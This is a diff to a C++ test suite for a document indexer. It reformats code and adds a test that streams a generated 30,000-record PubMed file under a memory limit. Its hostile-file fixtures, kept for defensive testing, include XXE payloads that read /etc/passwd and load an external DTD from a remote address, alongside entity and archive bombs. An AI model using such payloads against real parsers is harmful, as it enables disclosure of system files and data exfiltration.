@@ -1,6 +1,7 @@
 #include <archive.h>
 #include <archive_entry.h>
 
+#include <algorithm>
 #include <filesystem>
 #include <fstream>
 #include <functional>
@@ -61,9 +62,8 @@ void write_zip(const fs::path& path, const char* entry_name, int megabytes, char
 
 std::function<void(const fs::path&)> zip(std::string name, std::string entry, int megabytes,
                                          char byte) {
-    return [=](const fs::path& folder) {
-        write_zip(folder / name, entry.c_str(), megabytes, byte);
-    };
+    return
+        [=](const fs::path& folder) { write_zip(folder / name, entry.c_str(), megabytes, byte); };
 }
 
 std::string entity_bomb() {
@@ -102,11 +102,13 @@ std::string cut_tar() {
 }
 
 std::vector<Row> hostile_files() {
-    const std::string external = "<!DOCTYPE article [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
-                                 "<article><body><p>&x;</p></body></article>";
-    const std::string remote = "<!DOCTYPE article [<!ENTITY % p SYSTEM \"http://192.0.2.1/x.dtd\">"
-                               "%p;<!ENTITY x SYSTEM \"http://192.0.2.1/x\">]>"
-                               "<article><body><p>&x;</p></body></article>";
+    const std::string external =
+        "<!DOCTYPE article [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
+        "<article><body><p>&x;</p></body></article>";
+    const std::string remote =
+        "<!DOCTYPE article [<!ENTITY % p SYSTEM \"http://192.0.2.1/x.dtd\">"
+        "%p;<!ENTITY x SYSTEM \"http://192.0.2.1/x\">]>"
+        "<article><body><p>&x;</p></body></article>";
     const fs::path fixtures = fs::path(CASEBOOK_SOURCE_DIR) / "tests/indexer/fixtures";
     return {
         {"entities made of entities", "bad.xml", "made of others", file("bad.xml", entity_bomb())},
@@ -177,4 +179,26 @@ TEST_CASE("a file made to do harm is one rejection with its reason, and memory s
         CHECK(beside == 2);
     }
     std::cout << "peak of memory over hostile files: " << most / 1024 << " MB\n";
+}
+
+TEST_CASE("a PubMed file of 30,000 records is read one record at a time", "[full][bad input]") {
+    constexpr long kMostKilobytesOfStream = 100L << 10U;
+    const TemporaryFolder folder;
+    std::ofstream out(folder / "baseline.xml", std::ios::binary);
+    std::string abstract;
+    while (abstract.size() < 2000)
+        abstract += "The spleen of the man was large. ";
+    out << "<?xml version=\"1.0\"?><PubmedArticleSet>";
+    for (int number = 1; number <= 30'000; ++number)
+        out << "<PubmedArticle><MedlineCitation><PMID>" << number
+            << "</PMID><Article><ArticleTitle>Man " << number << "</ArticleTitle><Abstract>"
+            << "<AbstractText>" << abstract << "</AbstractText></Abstract></Article>"
+            << "</MedlineCitation></PubmedArticle>\n";
+    out << "</PubmedArticleSet>";
+    out.close();
+    const Ending ending = run_to_end({"annotate", "--format", "jsonl", folder / "baseline.xml"});
+    CHECK(ending.status == 0);
+    CHECK(std::count(ending.out.begin(), ending.out.end(), '\n') == 30'000);
+    std::cout << "peak of memory over a baseline file: " << ending.peak_kilobytes / 1024 << " MB\n";
+    CHECK(ending.peak_kilobytes < kMostKilobytesOfStream);
 }
